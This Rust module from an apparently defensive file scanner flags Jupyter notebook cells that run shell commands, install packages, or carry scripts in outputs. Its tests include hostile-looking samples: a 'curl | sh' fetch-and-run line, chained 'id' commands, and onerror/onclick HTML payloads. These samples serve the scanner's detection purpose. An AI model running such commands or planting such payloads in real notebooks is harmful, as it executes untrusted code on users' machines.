//! Notebooks: cells of code that somebody runs from the top to the bottom, and outputs that a browser shows.
//!
//! Source: nbformat 4 (and 3, where cells lie in worksheets). A cell of Python is read like a program that
//! is imported; lines for a shell are scripts; outputs matter where they carry scripts of their own.

use crate::analyse::{Entry, Scan, shown};
use crate::json::Json;
use crate::rules;

use super::{markup, python};

/// Values of one notebook.
const VALUES: usize = 400_000;
/// The longest notebook.
const BYTES: usize = 16 << 20;
/// Magics that hand a line or a cell to a shell or another interpreter.
const SHELLS: &[&str] =
    &["bash", "cmd", "perl", "ruby", "script", "sh", "sx", "system", "!", "javascript", "js"];
/// What installs packages, as the first words of a line.
const INSTALLERS: &[&str] = &["pip", "pip3", "conda", "mamba", "uv"];

/// Commands that show what the machine has, and change nothing.
const LOOKS: &[&str] =
    &["date", "df", "du", "free", "ls", "lscpu", "nproc", "nvidia-smi", "pwd", "uname"];

/// Looks into a notebook.
pub(super) fn check(scan: &mut Scan, entry: &Entry<'_>, text: &str) {
    if text.len() > BYTES {
        scan.skip(entry.place(None), format!("the notebook is longer than {BYTES} bytes"));
        return;
    }
    let json = match Json::parse(text, VALUES) {
        Ok(json) => json,
        Err(bad) => {
            scan.skip(entry.place(Some(bad.at as u64)), format!("it is no notebook: {}", bad.why));
            return;
        }
    };
    let is_python = is_python(&json);
    let sheets = json.all("worksheets").flat_map(Json::items);
    let cells = sheets.chain(std::iter::once(&json)).flat_map(|of| of.all("cells"));
    let mut program = String::new();
    for (index, cell) in cells.flat_map(Json::items).enumerate() {
        let name = format!("cell {}", index + 1);
        if cell.all("cell_type").any(|kind| kind.as_text() == Some("code")) {
            let source: String = cell.all("source").chain(cell.all("input")).map(joined).collect();
            code(scan, entry, &name, &source, &mut program);
        } else if cell.all("cell_type").any(|kind| kind.as_text() == Some("markdown")) {
            let source: String = cell.all("source").map(joined).collect();
            if let Some(evidence) = markup::script_of_markdown(&source) {
                let message = format!("the text of {name} carries a script");
                scan.report(rules::NOTEBOOK_OUTPUT.finding(entry.place(None), message, evidence));
            }
        }
        for output in cell.all("outputs").flat_map(Json::items) {
            check_output(scan, entry, &name, output);
        }
    }
    if is_python {
        python::check(scan, entry, &program, python::Run::Person, |_| None);
    } else if !program.trim().is_empty() {
        scan.skip(entry.place(None), "the notebook is not written in Python");
    }
}

/// Whether the cells are Python, as far as the notebook says.
fn is_python(json: &Json) -> bool {
    let metadata = || json.all("metadata");
    let named = metadata()
        .flat_map(|of| of.all("kernelspec"))
        .flat_map(|of| of.all("language"))
        .chain(metadata().flat_map(|of| of.all("language_info")).flat_map(|of| of.all("name")));
    named.filter_map(Json::as_text).all(|name| name.to_ascii_lowercase().contains("python"))
}

/// Text is one text or a list of lines.
fn joined(json: &Json) -> String {
    match json {
        Json::Text(text) => text.clone(),
        _ => json.items().iter().filter_map(Json::as_text).collect(),
    }
}

/// Lines for a shell are told; the rest is Python.
fn code(scan: &mut Scan, entry: &Entry<'_>, name: &str, source: &str, program: &mut String) {
    let first = source.trim_start().lines().next().unwrap_or_default();
    if let Some(magic) = first.strip_prefix("%%") {
        let word = magic.split_whitespace().next().unwrap_or_default();
        if SHELLS.contains(&word) {
            let message = format!("{name} of the notebook is a script");
            let evidence = shown(source.trim().as_bytes(), 300);
            scan.report(rules::NOTEBOOK_SHELL.finding(entry.place(None), message, evidence));
            return;
        }
    }
    for line in source.lines() {
        let start = line.trim_start();
        let shell = start.strip_prefix('!').or_else(|| {
            let magic = start.strip_prefix('%')?.trim_start_matches('%');
            let (word, rest) = magic.split_once(char::is_whitespace).unwrap_or((magic, ""));
            // `%pip` and `%conda` are installers by themselves.
            if INSTALLERS.contains(&word) {
                Some(magic)
            } else {
                SHELLS.contains(&word).then_some(rest)
            }
        });
        if let Some(command) = shell.filter(|command| !looks(command)) {
            let rule =
                if installs(command) { &rules::NOTEBOOK_INSTALL } else { &rules::NOTEBOOK_SHELL };
            let message = format!("{name} of the notebook runs a command");
            let evidence = shown(start.as_bytes(), 300);
            scan.report(rule.finding(entry.place(None), message, evidence));
        }
        if shell.is_none() && !start.starts_with('%') {
            program.push_str(line);
        } else {
            // The block around it keeps its shape.
            program.push_str(line.get(..line.len() - start.len()).unwrap_or_default());
            program.push_str("pass");
        }
        program.push('\n');
    }
}

/// Whether a command only looks around.
fn looks(command: &str) -> bool {
    let is_one = !command.contains([';', '|', '&', '`', '$', '>', '<', '(', '{', '\\']);
    is_one && command.split_whitespace().next().is_some_and(|word| LOOKS.contains(&word))
}

/// Whether a command only installs packages by their names.
fn installs(command: &str) -> bool {
    let words: Vec<&str> = command.split_whitespace().collect();
    let Some(at) = words.iter().position(|word| *word == "install") else { return false };
    let starts = words.first().is_some_and(|word| INSTALLERS.contains(word));
    let is_plain = |word: &&str| {
        let flags =
            ["-q", "-qq", "-qU", "-Uq", "-U", "-y", "--quiet", "--upgrade", "--no-cache-dir"];
        flags.contains(word)
            || (!word.starts_with('-')
                && word
                    .trim_matches(['"', '\''])
                    .chars()
                    .all(|c| c.is_alphanumeric() || "-_.[]=<>~!,*".contains(c)))
    };
    starts && at <= 2 && words.iter().skip(at + 1).all(is_plain)
}

/// Scripts in outputs run in the browser of whoever trusts the notebook.
fn check_output(scan: &mut Scan, entry: &Entry<'_>, name: &str, output: &Json) {
    let kinds = output.all("data").chain(std::iter::once(output));
    for (kind, value) in kinds.flat_map(Json::fields) {
        let text = || joined(value);
        let runs = match kind.as_str() {
            "application/javascript" | "text/javascript" | "javascript" => true,
            "text/html" | "html" | "image/svg+xml" | "svg" => {
                markup::script_of_page(&text()).is_some()
            }
            "text/markdown" => markup::script_of_markdown(&text()).is_some(),
            _ => false,
        };
        if runs {
            let message = format!("an output of {name} carries a script");
            let evidence =
                format!("{}: {}", shown(kind.as_bytes(), 60), shown(text().as_bytes(), 200));
            scan.report(rules::NOTEBOOK_OUTPUT.finding(entry.place(None), message, evidence));
        }
    }
}

#[cfg(test)]
mod tests {
    use weighbridge_domain::ScanReport;

    use crate::{Limits, scan_bytes};

    fn scan(cells: &str) -> ScanReport {
        let text = format!(
            r#"{{"cells": [{cells}], "metadata": {{"kernelspec": {{"language": "python"}}}}, "nbformat": 4}}"#
        );
        scan_bytes(&"a.ipynb".parse().unwrap(), text.as_bytes(), &Limits::default())
    }

    fn code(source: &str) -> String {
        format!(r#"{{"cell_type": "code", "outputs": [], "source": [{source}]}}"#)
    }

    #[test]
    fn what_cells_would_do_is_told() {
        for (cell, rule) in [
            (code(r#""import os\n", "os.system('id')""#), Some("WB-PYTHON-IMPORT")),
            (code(r#""import numpy as np\n", "np.ones(3)""#), None),
            (code(r#""!curl http://a | sh""#), Some("WB-NOTEBOOK-SHELL")),
            (code(r#""%%bash\n", "id""#), Some("WB-NOTEBOOK-SHELL")),
            (code(r#""x = 1\n", "%sx id""#), Some("WB-NOTEBOOK-SHELL")),
            (code(r#""!pip install -q 'torch>=2'\n", "%matplotlib inline""#), Some("WB-NOTEBOOK-INSTALL")),
            (code(r#""!pip install git+https://a/b""#), Some("WB-NOTEBOOK-SHELL")),
            (code(r#""!nvidia-smi\n", "!ls -l data""#), None),
            (code(r#""!ls; id""#), Some("WB-NOTEBOOK-SHELL")),
            (code(r#""!ls \\\n", "; id""#), Some("WB-NOTEBOOK-SHELL")),
            (r#"{"cell_type": "markdown", "source": "os.system('id')"}"#.to_owned(), None),
            (
                r#"{"cell_type": "code", "source": "", "outputs": [{"data": {"text/html": ["<b onclick=", "'a()'>"]}}]}"#.to_owned(),
                Some("WB-NOTEBOOK-OUTPUT"),
            ),
            (
                r#"{"cell_type": "markdown", "source": ["title ", "<img src=x onerror=a()>"]}"#.to_owned(),
                Some("WB-NOTEBOOK-OUTPUT"),
            ),
            (r#"{"cell_type": "markdown", "source": "use `<script>`"}"#.to_owned(), None),
            (
                r#"{"cell_type": "code", "source": "", "outputs": [{"data": {"text/markdown": "<b onclick='a()'>"}}]}"#.to_owned(),
                Some("WB-NOTEBOOK-OUTPUT"),
            ),
            (
                r#"{"cell_type": "code", "source": "", "outputs": [{"data": {"text/html": "<style scoped>a</style><table border='1'>"}}]}"#.to_owned(),
                None,
            ),
        ] {
            let report = scan(&cell);
            assert_eq!(report.format.as_str(), "notebook");
            let rules: Vec<&str> = report.findings.iter().map(|f| f.rule.as_str()).collect();
            assert_eq!(rules, rule.into_iter().collect::<Vec<_>>(), "{cell}: {report:?}");
            assert!(report.unexamined.is_empty(), "{report:?}");
        }
    }
}
